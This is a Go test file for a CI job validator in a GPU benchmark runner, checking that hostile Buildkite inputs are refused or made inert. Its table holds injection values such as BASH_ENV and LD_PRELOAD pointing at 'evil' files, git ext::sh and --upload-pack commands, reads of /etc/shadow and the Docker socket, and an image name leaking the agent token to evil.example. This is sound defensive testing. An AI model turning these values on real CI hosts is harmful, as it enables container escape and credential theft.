package job_test

import (
	"encoding/json"
	"errors"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/gpu-mode/kbnode/internal/job"
)

const ordinary = `[{"docker#v5.11.0":{"image":"kernelbot:latest","propagate-environment":true}}]`

// hostile is what a build can try, by the field of the refusal. "" means that it has no effect but on
// the container's environment.
var hostile = []struct {
	name, field string
	vars        map[string]string
}{
	// What the shell, git, the loader and interpreters read was fatal on the host. In the container it
	// is the job's own.
	{"bash", "", map[string]string{"BASH_ENV": "/workdir/evil.sh", "ENV": "/workdir/evil.sh", "SHELLOPTS": "xtrace", "PS4": "$(id)", "PROMPT_COMMAND": "id"}},
	{"a function of bash", "", map[string]string{"BASH_FUNC_echo%%": "() { id; }", "BASH_FUNC_cd()": "() { id; }"}},
	{"git", "", map[string]string{"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "id", "GIT_SSH_COMMAND": "id", "GIT_DIR": "/etc", "GIT_EXTERNAL_DIFF": "id"}},
	{"the loader", "", map[string]string{"LD_PRELOAD": "/workdir/evil.so", "LD_LIBRARY_PATH": "/workdir", "LD_AUDIT": "x", "GLIBC_TUNABLES": "x", "GCONV_PATH": "/workdir"}},
	{"interpreters", "", map[string]string{"PYTHONPATH": "/workdir", "PYTHONSTARTUP": "/workdir/x", "PERL5OPT": "-Mx", "NODE_OPTIONS": "-r x", "GODEBUG": "x", "GOCOVERDIR": "/etc"}},
	{"paths", "", map[string]string{"PATH": "/workdir", "HOME": "/etc", "TMPDIR": "/etc", "XDG_CONFIG_HOME": "/etc", "CREDENTIALS_DIRECTORY": "/etc"}},
	{"proxies", "", map[string]string{"HTTPS_PROXY": "http://evil.example", "SSL_CERT_FILE": "/workdir/ca", "SSH_AUTH_SOCK": "/run/x"}},
	{"docker", "", map[string]string{"DOCKER_HOST": "tcp://evil.example", "DOCKER_CONFIG": "/workdir", "NVIDIA_DRIVER_CAPABILITIES": "all", "CUDA_VISIBLE_DEVICES": "0,1"}},
	{"kbnode", "", map[string]string{"KBNODE_SLOT": "7", "KBNODE_RUNNER_PRIVATE_FD": "3", "KERNELBOT_MEMORY": "9999g", "KERNELBOT_CPUSET": "0-999"}},
	{"options of the plugin as variables", "", map[string]string{"BUILDKITE_PLUGIN_DOCKER_PRIVILEGED": "true", "BUILDKITE_PLUGIN_DOCKER_VOLUMES_0": "/:/host", "BUILDKITE_PLUGIN_CONFIGURATION": "{}"}},
	{"a line that looks like a setting", "", map[string]string{"X": "a\nBUILDKITE_PLUGIN_DOCKER_PRIVILEGED=true"}},
	{"an unknown profile", "KBNODE_PROFILE", map[string]string{"KBNODE_PROFILE": "root"}},

	{"secrets", "BUILDKITE_SECRETS_CONFIG", map[string]string{"BUILDKITE_SECRETS_CONFIG": `[{"key":"x"}]`}},
	{"another place for artifacts", "BUILDKITE_ARTIFACT_UPLOAD_DESTINATION", map[string]string{"BUILDKITE_ARTIFACT_UPLOAD_DESTINATION": "s3://evil"}},
	{"a refspec", "BUILDKITE_REFSPEC", map[string]string{"BUILDKITE_REFSPEC": "--upload-pack=id"}},
	{"an ID with a path", "BUILDKITE_JOB_ID", map[string]string{"BUILDKITE_JOB_ID": "../../etc"}},
	{"an ID that is an option", "BUILDKITE_JOB_ID", map[string]string{"BUILDKITE_JOB_ID": "--privileged"}},
	{"no ID", "BUILDKITE_JOB_ID", map[string]string{"BUILDKITE_JOB_ID": ""}},
	{"a build's ID with a newline", "BUILDKITE_BUILD_ID", map[string]string{"BUILDKITE_BUILD_ID": "a\nb"}},

	{"a command of 1 MiB", "command", map[string]string{"BUILDKITE_COMMAND": strings.Repeat("x", 1<<20)}},
	{"a command of 200 KB", "command", map[string]string{"BUILDKITE_COMMAND": strings.Repeat("x", 200_000)}},
	{"a command with a NUL", "command", map[string]string{"BUILDKITE_COMMAND": "id\x00id"}},
	{"a command that is not UTF-8", "command", map[string]string{"BUILDKITE_COMMAND": "id\xff"}},
	{"a variable of 200 KB", "environment", map[string]string{"X": strings.Repeat("x", 200_000)}},

	{"artifacts above", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "result.json;../../etc/shadow"}},
	{"artifacts of the node", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "/etc/shadow"}},
	{"artifacts of a home", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "~root/.ssh/*"}},
	{"artifacts that are options", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "--endpoint=https://evil.example/"}},
	{"artifacts above in braces", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "{a,..}/{b,..}/etc"}},
	{"artifacts with an escape", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": `\.\./x`}},
	{"artifacts of a variable", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "$HOME/x"}},
	{"artifacts with a bomb", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": strings.Repeat("{a,b}", 40)}},
	{"too many artifacts", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": strings.Repeat("a;", 1000)}},
	{"artifacts with an escape sequence", "artifact_paths", map[string]string{"BUILDKITE_ARTIFACT_PATHS": "a\x1b[2J"}},

	{"another repository", "BUILDKITE_REPO", map[string]string{"BUILDKITE_REPO": "https://github.com/evil/kernelbot"}},
	{"a repository that looks alike", "BUILDKITE_REPO", map[string]string{"BUILDKITE_REPO": "https://github.com.evil.example/gpu-mode/kernelbot"}},
	{"a repository after a user", "BUILDKITE_REPO", map[string]string{"BUILDKITE_REPO": "https://github.com/gpu-mode@evil.example/x"}},
	{"a repository that is a command", "BUILDKITE_REPO", map[string]string{"BUILDKITE_REPO": "ext::sh -c id"}},
	{"a repository that is an option", "BUILDKITE_REPO", map[string]string{"BUILDKITE_REPO": "--upload-pack=id"}},
	{"a repository on the node", "BUILDKITE_REPO", map[string]string{"BUILDKITE_REPO": "file:///etc"}},
	{"a repository above", "BUILDKITE_REPO", map[string]string{"BUILDKITE_REPO": "https://github.com/gpu-mode/.."}},
	{"a repository with a line", "BUILDKITE_REPO", map[string]string{"BUILDKITE_REPO": "https://github.com/gpu-mode/x\nhttps://evil.example"}},
	{"a commit that is an option", "BUILDKITE_COMMIT", map[string]string{"BUILDKITE_COMMIT": "--output=/etc/x"}},
	{"a commit that is a branch", "BUILDKITE_COMMIT", map[string]string{"BUILDKITE_COMMIT": "main"}},
	{"a commit that is a path", "BUILDKITE_COMMIT", map[string]string{"BUILDKITE_COMMIT": "HEAD:../x"}},
	{"a branch that is an option", "BUILDKITE_BRANCH", map[string]string{"BUILDKITE_BRANCH": "--upload-pack=id"}},
	{"a branch with a refspec", "BUILDKITE_BRANCH", map[string]string{"BUILDKITE_BRANCH": "+refs/heads/*:refs/heads/*"}},
	{"a branch above", "BUILDKITE_BRANCH", map[string]string{"BUILDKITE_BRANCH": "a/../../x"}},
	{"a branch with a reflog", "BUILDKITE_BRANCH", map[string]string{"BUILDKITE_BRANCH": "main@{1}"}},
	{"no branch for HEAD", "BUILDKITE_BRANCH", map[string]string{"BUILDKITE_BRANCH": ""}},

	{"no plugin and no command", "command", map[string]string{"BUILDKITE_PLUGINS": "", "BUILDKITE_COMMAND": " \n"}},
	{"a pipeline that the job makes", "command", map[string]string{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "./make.sh | buildkite-agent pipeline upload"}},
	{"a pipeline of the node", "command", map[string]string{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload /etc/shadow"}},
	{"a pipeline above", "command", map[string]string{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload a/../../../etc/shadow"}},
	{"a pipeline that is an option", "command", map[string]string{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload --redacted-vars="}},
	{"a pipeline after another command", "command", map[string]string{"BUILDKITE_PLUGINS": "[]", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload a.yml; id"}},

	{"plugins that are no JSON", "BUILDKITE_PLUGINS", plugins(`[{"docker#v5.11.0":`)},
	{"plugins that are text", "BUILDKITE_PLUGINS", plugins(`"docker#v5.11.0"`)},
	{"plugins and more", "BUILDKITE_PLUGINS", plugins(ordinary + `[]`)},
	{"a key twice", "BUILDKITE_PLUGINS", plugins(`[{"docker#v5.11.0":{"image":"a","image":"b"}}]`)},
	{"a plugin twice", "BUILDKITE_PLUGINS", plugins(`[{"docker#v5.11.0":{"image":"a"},"docker#v5.11.0":{"image":"b","privileged":true}}]`)},
	{"depth", "BUILDKITE_PLUGINS", plugins(strings.Repeat("[", 50_000) + strings.Repeat("]", 50_000))},
	{"depth in an option", "BUILDKITE_PLUGINS", plugins(`[{"docker#v5.11.0":{"image":[[[[[[["a"]]]]]]]}}]`)},
	{"size", "BUILDKITE_PLUGINS", plugins(`[{"docker#v5.11.0":{"image":"` + strings.Repeat("x", 1<<20) + `"}}]`)},
	{"many values", "BUILDKITE_PLUGINS", plugins(`[{"docker#v5.11.0":{"image":"a","volumes":[` + strings.Repeat("1,", 20_000) + `1]}}]`)},
	{"a NUL in an option", "BUILDKITE_PLUGINS", plugins(`[{"docker#v5.11.0":{"image":"a\u0000b"}}]`)},
	{"plugins that are not UTF-8", "BUILDKITE_PLUGINS", plugins("[{\"docker#v5.11.0\":{\"image\":\"a\xff\"}}]")},
	{"a huge number", "BUILDKITE_PLUGINS", plugins(`[{"docker#v5.11.0":{"image":"a","memory":1e99999}}]`)},
	{"two docker plugins", "plugins", plugins(`[{"docker#v5.11.0":{"image":"a"}},{"docker#v5.11.0":{"image":"b"}}]`)},
	{"another plugin", "plugins", plugins(`[{"docker#v5.11.0":{"image":"a"}},{"docker-compose#v5.0.0":{"run":"x"}}]`)},
	{"another owner's", "plugins", plugins(`[{"evil/docker#v5.11.0":{"image":"a"}}]`)},
	{"another host's", "plugins", plugins(`[{"https://github.com.evil.example/buildkite-plugins/docker-buildkite-plugin#v5.11.0":{"image":"a"}}]`)},
	{"a plugin of the repository", "plugins", plugins(`[{"./docker#v5.11.0":{"image":"a"}}]`)},
	{"a plugin with a query", "plugins", plugins(`[{"docker?x#v5.11.0":{"image":"a"}}]`)},
	{"a plugin with an escape", "plugins", plugins(`[{"%64ocker#v5.11.0":{"image":"a"}}]`)},
	{"a plugin with a user", "plugins", plugins(`[{"https://github.com@evil.example/buildkite-plugins/docker-buildkite-plugin#v5.11.0":{"image":"a"}}]`)},
	{"a branch of the plugin", "plugins", plugins(`[{"docker#master":{"image":"a"}}]`)},
	{"an older plugin", "plugins", plugins(`[{"docker#v5.10.0":{"image":"a"}}]`)},
	{"options that are a list", "plugins", plugins(`[{"docker#v5.11.0":["image"]}]`)},
	{"no options", "image", plugins(`["docker#v5.11.0"]`)},
	{"an image that is an option", "image", options(`"image":"--privileged"`)},
	{"an image that is a list", "image", options(`"image":["a"]`)},
	{"an image of the agent's token", "image", options(`"image":"evil.example/$BUILDKITE_AGENT_ACCESS_TOKEN","expand-image-vars":true`)},
	{"an image of a token that the build sent, too", "image", map[string]string{"BUILDKITE_AGENT_ACCESS_TOKEN": "x", "BUILDKITE_PLUGINS": `[{"docker#v5.11.0":{"image":"evil.example/$BUILDKITE_AGENT_ACCESS_TOKEN","expand-image-vars":true}}]`}},
	{"an image that a shell runs", "image", options(`"image":"$(id)","expand-image-vars":true`)},
	{"an option in capitals", "Privileged", options(`"image":"a","Privileged":true`)},
	{"an option with an underscore", "always_pull", options(`"image":"a","always_pull":true`)},
	{"a refused option with an underscore", "add_caps", options(`"image":"a","add_caps":["ALL"]`)},
	{"an option with an escape sequence", "x\x1b[2J", options(`"image":"a","x\u001b[2J":1`)},
	{"privileged as text", "privileged", options(`"image":"a","privileged":"on"`)},
	{"root of the node", "volumes", options(`"image":"a","volumes":["/:/host"]`)},
	{"a directory above", "volumes", options(`"image":"a","volumes":["./../../etc:/host"]`)},
	{"a directory above the cache", "volumes", options(`"image":"a","volumes":["/var/lib/buildkite-agent/cache/../x:/host"]`)},
	{"a directory of a variable", "volumes", options(`"image":"a","volumes":["$HOME:/host"],"expand-volume-vars":true`)},
	{"a directory that a shell names", "volumes", options(`"image":"a","volumes":["./$(id):/x"],"expand-volume-vars":true`)},
	{"the socket of Docker", "volumes", options(`"image":"a","volumes":["/var/run/docker.sock:/var/run/docker.sock"]`)},
	{"a named volume", "volumes", options(`"image":"a","volumes":["cache:/cache"]`)},
	{"a mount over /proc", "volumes", options(`"image":"a","volumes":[".:/proc/sys"]`)},
	{"a mount over kbnode", "volumes", options(`"image":"a","volumes":["./x:/usr/local/bin/kbnode"]`)},
	{"a mount that is shared", "volumes", options(`"image":"a","volumes":[".:/x:rshared"]`)},
	{"the checkout over the root", "volumes", options(`"image":"a","workdir":"/"`)},
	{"a tmpfs over /sys", "tmpfs", options(`"image":"a","tmpfs":["/sys"]`)},
	{"options of another file system", "tmpfs", options(`"image":"a","tmpfs":["/x:upperdir=/etc"]`)},
	{"a directory of the engine", "workdir", options(`"image":"a","mount-checkout":false,"workdir":"/proc/self/fd/7"`)},
	{"a relative directory", "workdir", options(`"image":"a","mount-checkout":false,"workdir":"../x"`)},
	{"a user of the node", "user", options(`"image":"a","user":"33"`)},
	{"a user of a slot", "user", options(`"image":"a","user":"kbnode-gpu1"`)},
	{"a group that is an option", "additional-groups", options(`"image":"a","additional-groups":["--privileged"]`)},
	{"a network of another slot", "network", options(`"image":"a","network":"kbnode-gpu1"`)},
	{"a network of another container", "network", options(`"image":"a","network":"container:x"`)},
	{"shared memory of the node", "ipc", options(`"image":"a","ipc":"host"`)},
	{"a size below zero", "memory", options(`"image":"a","memory":"-1g"`)},
	{"a size beyond all", "memory", options(`"image":"a","memory":"9999999999999g"`)},
	{"files without end", "ulimits", options(`"image":"a","ulimits":["nofile=-1"]`)},
	{"core files", "ulimits", options(`"image":"a","ulimits":["core=-1"]`)},
	{"messages of others", "ulimits", options(`"image":"a","ulimits":["msgqueue=1"]`)},
	{"no entrypoint as false", "entrypoint", options(`"image":"a","entrypoint":false`)},
	{"a list of groups without end", "additional-groups", options(`"image":"a","additional-groups":["` + strings.Repeat(`1","`, 100) + `1"]`)},
	{"capabilities that are none", "drop-caps", options(`"image":"a","drop-caps":["--x"]`)},
	{"mounts without end", "volumes", options(`"image":"a","tmpfs":["/a` + strings.Repeat(`/a","/a`, 100) + `"]`)},
	{"a mount over the agent", "volumes", options(`"image":"a","mount-buildkite-agent":true,"volumes":["./x:/usr/bin/buildkite-agent"]`)},
	{"a group of a slot", "user", options(`"image":"a","user":"1000:kbnode-gpu1"`)},
	{"a command of many words", "command", map[string]string{"BUILDKITE_COMMAND": "", "BUILDKITE_PLUGINS": `[{"docker#v5.11.0":{"image":"a","command":["` + strings.Repeat(`x","`, 5000) + `x"]}}]`}},
	{"open files beyond all", "ulimits", options(`"image":"a","ulimits":["nofile=9999999"]`)},
	{"a shell that is text", "shell", options(`"image":"a","shell":"/bin/sh -c"`)},
	{"a variable without a name", "environment", options(`"image":"a","environment":["=x"]`)},
	{"a list of variables that is not there", "env-propagation-list", options(`"image":"a","env-propagation-list":"NO_SUCH"`)},
	{"a list of the agent's", "env-propagation-list", options(`"image":"a","env-propagation-list":"BUILDKITE_AGENT_ACCESS_TOKEN"`)},
}

func plugins(text string) map[string]string { return map[string]string{"BUILDKITE_PLUGINS": text} }

func options(text string) map[string]string {
	return plugins(`[{"docker#v5.11.0":{` + text + `}}]`)
}

func attack(vars map[string]string) job.Input {
	all := map[string]string{"BUILDKITE_COMMAND": "true", "BUILDKITE_PLUGINS": ordinary}
	maps.Copy(all, vars)
	return build(all)
}

func TestHostileBuilds(t *testing.T) {
	t.Parallel()
	plain := read(t, attack(nil))
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			in := attack(tt.vars)
			in.Env["BUILDKITE_AGENT_ACCESS_TOKEN"] = "secret" // whatever the build sends
			s, err := job.Read(in)
			if tt.field != "" {
				refused(t, err, tt.field)
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			inert(t, plain, s)
		})
	}
}

// refused tests that err is one short sentence about that field.
func refused(t *testing.T, err error, field string) {
	t.Helper()
	r, ok := errors.AsType[*job.Refusal](err)
	if !ok || r.Field != field {
		t.Fatalf("not a refusal of %s: %v", field, err)
	}
	if text := err.Error(); len(text) > 600 || strings.ContainsFunc(text, unicode.IsControl) {
		t.Errorf("the refusal has %d bytes: %.700q", len(text), text)
	}
}

// inert tests that two jobs differ in their environments only, and that this one has nothing of the
// slot's or the agent's in its own.
func inert(t *testing.T, plain, s *job.Spec) {
	t.Helper()
	a, b := *plain, *s
	a.Env, b.Env = nil, nil
	if diff := cmp.Diff(a, b); diff != "" {
		t.Errorf("it changes more than the environment: %s", diff)
	}
	for _, v := range s.Env {
		for _, prefix := range []string{"NVIDIA_", "CUDA_VISIBLE_DEVICES", "LD_", "KBNODE_", "BUILDKITE_AGENT_ACCESS_TOKEN", "BUILDKITE_AGENT_TOKEN", "BUILDKITE_AGENT_JOB_API_", "KERNELBOT_MEMORY", "KERNELBOT_CPUSET"} {
			if strings.HasPrefix(v.Name, prefix) || v.Value == "secret" {
				t.Errorf("the container has %s=%s", v.Name, v.Value)
			}
		}
	}
}

// TestEnvironmentWins tests whose value counts where the agent replaced what was sent.
func TestEnvironmentWins(t *testing.T) {
	t.Parallel()
	in := attack(map[string]string{"A": "sent", "B": "sent", "BUILDKITE_REDACTED_VARS": "NOTHING"})
	in.Env["A"] = "environment"
	delete(in.Env, "B")
	delete(in.Env, "BUILDKITE_REDACTED_VARS")
	s := read(t, in)
	values := map[string]string{}
	for _, v := range s.Env {
		values[v.Name] = v.Value
	}
	if _, passed := values["B"]; passed || values["A"] != "environment" || len(s.Redact) > 0 {
		t.Errorf("A=%s, B passed: %v, hidden: %q", values["A"], passed, s.Redact)
	}
	in = attack(map[string]string{"BUILDKITE_SECRETS_CONFIG": `[{"key":"x"}]`})
	in.Env["BUILDKITE_SECRETS_CONFIG"] = ""
	_, err := job.Read(in)
	refused(t, err, "BUILDKITE_SECRETS_CONFIG")
}

func TestCheckout(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		vars map[string]string
		want string
	}{
		"a script":                    {options(`"image":"a"`), job.CheckoutMirror},
		"skipped":                     {options(`"image":"a","skip-checkout":true`), job.CheckoutNone},
		"not mounted":                 {options(`"image":"a","mount-checkout":false`), job.CheckoutNone},
		"a part of it mounted":        {options(`"image":"a","mount-checkout":false,"volumes":["./x:/x"]`), job.CheckoutMirror},
		"an evaluation":               {options(`"image":"a","command":["kbnode","runner"]`), job.CheckoutNone},
		"an evaluation by its path":   {options(`"image":"a","entrypoint":"/usr/local/bin/kbnode","command":["runner"]`), job.CheckoutNone},
		"an evaluation, annotated":    {options(`"image":"a","command":["exec kbnode  runner --annotate"]`), job.CheckoutNone},
		"an evaluation and more":      {options(`"image":"a","command":["kbnode runner; cat x"]`), job.CheckoutMirror},
		"an evaluation with files":    {options(`"image":"a","command":["kbnode","runner"],"volumes":["./x:/x"]`), job.CheckoutMirror},
		"an evaluation of a file":     {options(`"image":"a","command":["kbnode","runner","--payload","x"]`), job.CheckoutMirror},
		"a repository without a name": {map[string]string{"BUILDKITE_REPO": ""}, job.CheckoutNone},
	} {
		if strings.Contains(tt.vars["BUILDKITE_PLUGINS"], "command") {
			tt.vars["BUILDKITE_COMMAND"] = ""
		}
		if s := read(t, attack(tt.vars)); s.Checkout.Mode != tt.want {
			t.Errorf("%s: %q, want %q", name, s.Checkout.Mode, tt.want)
		}
	}
	_, err := job.Read(attack(map[string]string{"BUILDKITE_REPO": "", "BUILDKITE_PLUGINS": "", "BUILDKITE_COMMAND": "buildkite-agent pipeline upload"}))
	refused(t, err, "BUILDKITE_REPO")
}

// TestVariablesOfTheAgent tests that no variable that buildkite-agent 3.76.2 reads changes a job,
// besides those that say what it is.
func TestVariablesOfTheAgent(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile("testdata/agent-variables.txt")
	if err != nil {
		t.Fatal(err)
	}
	names := strings.Fields(string(text))
	if len(names) < 200 {
		t.Fatalf("%d variables", len(names))
	}
	means := []string{
		"BUILDKITE_ARTIFACT_PATHS", "BUILDKITE_BRANCH", "BUILDKITE_BUILD_ID", "BUILDKITE_COMMAND", "BUILDKITE_COMMIT", "BUILDKITE_JOB_ID",
		"BUILDKITE_PLUGINS", "BUILDKITE_REPO", "BUILDKITE_ARTIFACT_UPLOAD_DESTINATION", "BUILDKITE_REFSPEC", "BUILDKITE_SECRETS_CONFIG",
	}
	plain := read(t, attack(nil))
	for _, name := range names {
		if slices.Contains(means, name) {
			continue
		}
		for _, value := range []string{"/etc", "true", "$(id)"} {
			in := attack(map[string]string{name: value})
			if name == "BUILDKITE_REDACTED_VARS" { // the agent's own value wins
				in.Env[name] = "*_TOKEN,*_PASSWORD"
			}
			s, err := job.Read(in)
			if err != nil {
				t.Errorf("%s=%s: %v", name, value, err)
				continue
			}
			inert(t, plain, s)
		}
	}
}

func TestReadEnv(t *testing.T) {
	t.Parallel()
	many := strings.Repeat("x", job.MaxEnvFile)
	for name, tt := range map[string]struct {
		file, object, field string
		want                []job.Var
	}{
		"usual":            {file: "B=\"x\\ny\"\nBARE_NAME\n\nA=\"=\\\"\"\n", object: `{"B":"x\ny","A":"=\""}`, want: []job.Var{{Name: "B", Value: "x\ny"}, {Name: "A", Value: `="`}}},
		"no line at last":  {file: `A="x"`, object: ` {"A":"x"} `, want: []job.Var{{Name: "A", Value: "x"}}},
		"nothing":          {file: "", object: "{}"},
		"a function":       {file: "BASH_FUNC_x%%=\"() { id; }\"\n", object: `{"BASH_FUNC_x%%":"() { id; }"}`, want: []job.Var{{Name: "BASH_FUNC_x%%", Value: "() { id; }"}}},
		"twice":            {file: "A=\"x\"\nA=\"y\"\n", object: `{"A":"x","A":"y"}`, field: "env"},
		"a NUL":            {file: `A="\x00"`, object: `{"A":"\u0000"}`, field: "env"},
		"a NUL in a name":  {file: "A\x00=\"x\"", object: `{"A\u0000":"x"}`, field: "env"},
		"not UTF-8":        {file: `A="\xff"`, object: "{\"A\":\"\xff\"}", field: "env"},
		"no name":          {file: `="x"`, object: `{"":"x"}`, field: "env"},
		"a long name":      {file: strings.Repeat("A", 300) + `="x"`, object: `{"` + strings.Repeat("A", 300) + `":"x"}`, field: "env"},
		"not quoted":       {file: "A=x\n", object: `{"A":1}`, field: "env"},
		"quoted otherwise": {file: "A=`x`\n", object: `{"A":["x"]}`, field: "env"},
		"a character":      {file: "A='x'\n", object: `["A"]`, field: "env"},
		"a name with =":    {file: `A=B="x"`, object: `{"A":{"B":"x"}}`, field: "env"},
		"half":             {file: `A="x`, object: `{"A":"x"`, field: "env"},
		"more":             {file: `A="x" B`, object: `{"A":"x"}{}`, field: "env"},
		"too much":         {file: `A="` + many + `"`, object: `{"A":"` + many + `"}`, field: "env"},
		"too many":         {file: lines(5000), object: object(t, 5000), field: "env"},
	} {
		for field, read := range map[string]func() ([]job.Var, error){
			"BUILDKITE_ENV_FILE":      func() ([]job.Var, error) { return job.ReadEnvFile(tt.file) },
			"BUILDKITE_ENV_JSON_FILE": func() ([]job.Var, error) { return job.ReadEnvJSON(tt.object) },
		} {
			t.Run(name+" of "+field, func(t *testing.T) {
				t.Parallel()
				got, err := read()
				want := slices.Clone(tt.want)
				if field == "BUILDKITE_ENV_JSON_FILE" {
					slices.SortFunc(want, func(a, b job.Var) int { return strings.Compare(a.Name, b.Name) })
				}
				if tt.field != "" {
					refused(t, err, field)
				} else if diff := cmp.Diff(want, got); err != nil || diff != "" {
					t.Errorf("%v\n%s", err, diff)
				}
			})
		}
	}
}

func number(i int) string { return "A" + strings.Repeat("x", i%100) + string(rune('a'+i/100)) }

func lines(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(number(i) + "=\"\"\n")
	}
	return b.String()
}

func object(t *testing.T, n int) string {
	t.Helper()
	m := map[string]string{}
	for i := range n {
		m[number(i)] = ""
	}
	text, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}
